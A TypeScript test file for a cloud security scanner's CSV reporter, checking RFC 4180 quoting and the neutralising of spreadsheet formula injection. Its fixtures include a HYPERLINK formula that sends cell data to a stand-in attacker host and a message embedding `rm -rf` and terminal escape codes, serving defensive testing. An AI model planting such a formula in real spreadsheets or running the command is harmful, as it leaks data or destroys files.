import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { CSV_COLUMNS, renderCsv } from '../../src/reporters/csv.js'
import { FIXTURE_CHECKS, fixtureReport } from './fixture.js'

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF records; line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++
      else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') {
      assert.equal(field, '', `quote inside an unquoted field at ${i}`)
      quoted = true
    } else if (c === ',') row.push(field), (field = '')
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++
    else {
      assert.ok(c !== '\n' && c !== '\r', `bare line break outside quotes at ${i}`)
      field += c
    }
  }
  assert.equal(quoted, false, 'unterminated quoted field')
  assert.equal(row.length + field.length, 0, 'last record not CRLF-terminated')
  return rows
}

describe('csv reporter', () => {
  const rows = parseCsv(renderCsv(fixtureReport(), FIXTURE_CHECKS))
  const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name)

  it('has a header and one row per finding, every row as wide as the header', () => {
    assert.deepEqual(rows[0], [...CSV_COLUMNS])
    assert.equal(rows.length, fixtureReport().findings.length + 1)
    for (const r of rows) assert.equal(r.length, CSV_COLUMNS.length)
  })

  it('round-trips commas, quotes and line breaks', () => {
    const role = rows.find((r) => r[col('check_id')] === 'iam-role-no-admin-access')!
    assert.equal(role[col('message')], 'Role @octocat/team | `rm -rf` *bold* [link](http://evil.example) has "AdministratorAccess",\r\nsee line two\\u0007 \\u001b[31mred\\u001b[0m')
  })

  it('neutralises cells a spreadsheet would run as a formula', () => {
    const role = rows.find((r) => r[col('check_id')] === 'iam-role-no-admin-access')!
    assert.equal(role[col('resource_name')], `'=HYPERLINK("http://evil.example/?"&A1)`)
    for (const r of rows.slice(1)) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
  })

  it('fills locations, muting, compliance and the fix', () => {
    const iac = rows.find((r) => r[col('resource_id')] === 'templates/app stack.yaml#ApiFunction')!
    assert.deepEqual([iac[col('file')], iac[col('start_line')], iac[col('end_line')], iac[col('address')]], ['templates/app stack.yaml', '12', '20', 'ApiFunction'])
    assert.equal(iac[col('account_id')], '111122223333')
    const muted = rows.find((r) => r[col('resource_name')] === 'internal-tool')!
    assert.deepEqual([muted[col('muted')], muted[col('muted_reason')]], ['true', 'accepted risk | ticket SEC-12 <b>ok</b>'])
    const pub = rows.find((r) => r[col('resource_id')] === 'arn:aws:lambda:eu-west-1:111122223333:function:public-fn')!
    assert.equal(pub[col('compliance')], 'cis-aws-7.0:3.1;fsbp:Lambda.1;fsbp:Lambda.9')
    assert.match(pub[col('remediation')]!, /^Remove the public statement/)
    const pass = rows.find((r) => r[col('status')] === 'pass')!
    assert.equal(pass[col('remediation')], '', 'no fix for a pass')
  })
})
